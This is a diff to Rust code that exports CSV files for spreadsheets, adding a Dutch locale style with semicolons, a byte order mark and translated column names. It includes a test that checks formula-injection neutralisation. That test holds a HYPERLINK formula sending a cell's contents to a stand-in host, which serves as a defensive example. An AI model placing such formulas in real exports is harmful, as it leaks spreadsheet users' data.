@@ -61,15 +61,68 @@ pub fn name_column(receipts: &[Receipt], flag: Option<&str>) -> Result<Option<St
     }
 }
 
-/// A CSV document of `rows` under `header`, every field quoted as needed,
-/// and every field that a spreadsheet would run as a formula written with a
-/// leading `'` ([`crate::spreadsheet_safe`]; the file is for a spreadsheet).
-pub fn csv(header: &[String], rows: &[Vec<String>]) -> Result<Vec<u8>> {
+/// How a CSV file for a spreadsheet is written (issue 28).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum CsvStyle {
+    /// Comma-separated UTF-8 without a byte order mark, English column names
+    /// and words: for scripts, and what Excel in English opens.
+    International,
+    /// As the user's spreadsheet opens it on a double click: for Dutch, `;`
+    /// separated UTF-8 with a byte order mark (so "Daniël" stays "Daniël"),
+    /// Dutch column names and role words. English is [`CsvStyle::International`].
+    Local(Lang),
+}
+
+impl CsvStyle {
+    /// `--format csv` in the user's convention, `csv-en` international.
+    pub fn of_format(format: &str, lang: Lang) -> CsvStyle {
+        match (format, lang.code()) {
+            ("csv", "nl") => CsvStyle::Local(lang),
+            _ => CsvStyle::International,
+        }
+    }
+}
+
+/// Column names whose values are words of the tool (a role, a status): said
+/// in the user's language in a local CSV.
+const WORD_COLUMNS: [&str; 2] = ["role", "status"];
+/// The tool's own column names, said in the user's language in a local CSV
+/// (the private columns keep the names the organiser's sheet gave them).
+const OWN_COLUMNS: [&str; 8] = ["id", "name", "code", "list", "role", "rank", "status", "place"];
+
+/// A CSV document of `rows` under `header` in `style`, every field quoted as
+/// needed, and every field that a spreadsheet would run as a formula written
+/// with a leading `'` ([`crate::spreadsheet_safe`]; the file is for a
+/// spreadsheet). `own` is how many of the first header names are the tool's
+/// own (translated in a local CSV); the rest are the organiser's columns.
+pub fn csv(header: &[String], own: usize, rows: &[Vec<String>], style: CsvStyle) -> Result<Vec<u8>> {
     use crate::spreadsheet_safe::neutralise;
-    let mut w = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
+    let (delimiter, bom, lang) = match style {
+        CsvStyle::International => (b',', false, None),
+        CsvStyle::Local(lang) => (b';', true, Some(lang)),
+    };
+    let word = |kind: &str, w: &str| -> String {
+        match lang {
+            Some(lang) => lang.t(&format!("csv.{kind}.{w}"), &[]),
+            None => w.to_string(),
+        }
+    };
+    let ours = |i: usize, h: &str| i < own && OWN_COLUMNS.contains(&h);
+    let words: Vec<bool> =
+        header.iter().enumerate().map(|(i, h)| ours(i, h) && WORD_COLUMNS.contains(&h.as_str())).collect();
+    let header: Vec<String> =
+        header.iter().enumerate().map(|(i, h)| if ours(i, h) { word("column", h) } else { h.clone() }).collect();
+    let mut out = Vec::new();
+    if bom {
+        out.extend_from_slice(b"\xef\xbb\xbf");
+    }
+    let mut w = csv::WriterBuilder::new().delimiter(delimiter).terminator(csv::Terminator::CRLF).from_writer(out);
     w.write_record(header.iter().map(|c| neutralise(c).into_owned()))?;
     for r in rows {
-        w.write_record(r.iter().map(|c| neutralise(c).into_owned()))?;
+        w.write_record(r.iter().zip(words.iter().chain(std::iter::repeat(&false))).map(|(c, &is_word)| {
+            let c = if is_word && !c.is_empty() { word("value", c) } else { c.clone() };
+            neutralise(&c).into_owned()
+        }))?;
     }
     w.into_inner().map_err(|e| anyhow::anyhow!("internal error: {e}"))
 }
@@ -80,20 +133,39 @@ mod tests {
 
     #[test]
     fn csv_quotes_commas_and_quotes() {
-        let out = csv(&["id".into(), "name".into()], &[vec!["A1".into(), "Mensah, \"Joyce\"".into()]]).unwrap();
+        let out = csv(
+            &["id".into(), "name".into()],
+            2,
+            &[vec!["A1".into(), "Mensah, \"Joyce\"".into()]],
+            CsvStyle::International,
+        )
+        .unwrap();
         assert_eq!(String::from_utf8(out).unwrap(), "id,name\r\nA1,\"Mensah, \"\"Joyce\"\"\"\r\n");
     }
 
     #[test]
     fn csv_cells_never_start_a_formula() {
         let link = "=HYPERLINK(\"https://x.invalid/?\"&C2,\"klik\")";
-        let out =
-            csv(&["id".into(), "@name".into()], &[vec!["A1".into(), link.into()], vec!["A2".into(), "-Mo-".into()]])
-                .unwrap();
+        let rows = [vec!["A1".into(), link.into()], vec!["A2".into(), "-Mo-".into()]];
+        let out = csv(&["id".into(), "@name".into()], 1, &rows, CsvStyle::International).unwrap();
         let text = String::from_utf8(out).unwrap();
         assert_eq!(
             text,
             "id,'@name\r\nA1,\"'=HYPERLINK(\"\"https://x.invalid/?\"\"&C2,\"\"klik\"\")\"\r\nA2,'-Mo-\r\n"
         );
+    }
+
+    /// Issue 28: the Dutch CSV opens right on a double click in Dutch Excel:
+    /// `;`, a byte order mark, Dutch column names and role words; the
+    /// organiser's own column names and every value as they are.
+    #[test]
+    fn a_dutch_csv_is_what_dutch_excel_opens() {
+        let nl = Lang::from_code("nl").unwrap();
+        let header = ["role".into(), "rank".into(), "id".into(), "Naam".into(), "name".into()];
+        let rows = [vec!["recipient".into(), "1".into(), "ZUID-003".into(), "Daniël Bos".into(), "x".into()]];
+        let out = String::from_utf8(csv(&header, 3, &rows, CsvStyle::Local(nl)).unwrap()).unwrap();
+        assert_eq!(out, "\u{feff}rol;nummer;id;Naam;name\r\nontvanger;1;ZUID-003;Daniël Bos;x\r\n");
+        assert_eq!(CsvStyle::of_format("csv", nl), CsvStyle::Local(nl));
+        assert_eq!(CsvStyle::of_format("csv-en", nl), CsvStyle::International);
     }
 }
